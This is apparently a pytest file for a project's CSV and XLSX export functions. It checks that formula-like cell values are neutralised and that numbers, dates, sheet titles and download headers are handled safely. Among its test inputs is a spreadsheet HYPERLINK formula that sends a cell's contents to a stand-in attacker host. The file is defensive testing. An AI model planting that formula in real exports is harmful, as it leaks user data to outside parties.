import csv
import datetime
import io
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from rozwoj.core import exports

RISKY = [
    '=HYPERLINK("http://evil.example/?d="&C2,"Kliknij")',
    "+48 600 100 200",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
]
HARMLESS = ["Nowak", "Anna-Maria", "e-mail: a@b.pl", "1+1=2", "", "'already quoted"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_formula_like(text):
    assert exports.is_formula_like(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_not_formula_like(text):
    assert not exports.is_formula_like(text)


def _csv_rows(header, rows):
    text = exports.csv_content(header, rows)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_prefixes_risky_text_with_a_quote_and_keeps_the_rest():
    rows = _csv_rows(["=header"], [[text] for text in RISKY + HARMLESS])
    assert rows[0] == ["'=header"]
    assert [row[0] for row in rows[1 : len(RISKY) + 1]] == ["'" + text for text in RISKY]
    assert [row[0] for row in rows[len(RISKY) + 1 :]] == HARMLESS


def test_csv_keeps_numbers_and_writes_dates_in_iso_form():
    warsaw = ZoneInfo("Europe/Warsaw")
    moment = datetime.datetime(2026, 3, 26, 8, 30, tzinfo=datetime.UTC)
    rows = _csv_rows(["n"], [[-5, 2.5, Decimal("-1.25"), None, True, datetime.date(2026, 3, 26), moment]])
    local = moment.astimezone(warsaw).strftime("%Y-%m-%d %H:%M")
    assert rows[1] == ["-5", "2.5", "-1.25", "", "True", "2026-03-26", local]


def _xlsx(header, rows):
    content = exports.xlsx_content(header, rows, title="Uczestnicy: [lista]/2026?")
    return content, load_workbook(io.BytesIO(content)).active


def test_xlsx_writes_risky_text_as_text_exactly_and_never_a_formula():
    content, sheet = _xlsx(["Imię"], [[text] for text in RISKY])
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML may read a carriage return back as a line feed; everything else is the text exactly
    assert [cell.value.replace("\r", "\n") for cell in cells] == [text.replace("\r", "\n") for text in RISKY]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


def test_xlsx_keeps_numbers_dates_and_ordinary_text():
    moment = datetime.datetime(2026, 3, 26, 8, 30, tzinfo=datetime.UTC)
    _content, sheet = _xlsx(
        ["ID", "Name"], [[-5, "Nowak", 2.5, Decimal("3.5"), datetime.date(2026, 3, 26), moment, None, "end"]]
    )
    cells = next(sheet.iter_rows(min_row=2))
    assert cells[0].value == -5
    assert cells[0].data_type == "n"
    assert cells[1].value == "Nowak"
    assert not cells[1].quotePrefix
    assert cells[2].value == 2.5
    assert cells[3].value == 3.5
    assert cells[4].value == datetime.datetime(2026, 3, 26)
    assert cells[4].is_date
    assert cells[5].value == datetime.datetime(2026, 3, 26, 9, 30)
    assert cells[5].is_date
    assert cells[6].value is None
    assert sheet.title == "Uczestnicy   lista  2026"


def test_xlsx_drops_characters_xml_cannot_hold_instead_of_failing():
    _content, sheet = _xlsx(["x"], [["Ann\x00a\x0b Nowak"], ["x" * 40000]])
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values == ["Anna Nowak", "x" * exports.XLSX_MAX_CELL_CHARS]


def test_export_response_sends_a_download_with_safe_headers():
    response = exports.export_response("csv", name="participants-7", title="t", header=["a"], rows=[["b"]])
    assert response["Content-Disposition"] == 'attachment; filename="participants-7.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    response = exports.export_response("xlsx", name="events", title="t", header=["a"], rows=[])
    assert response["Content-Disposition"] == 'attachment; filename="events.xlsx"'
    with pytest.raises(ValueError):
        exports.export_response("html", name="x", title="t", header=[], rows=[])
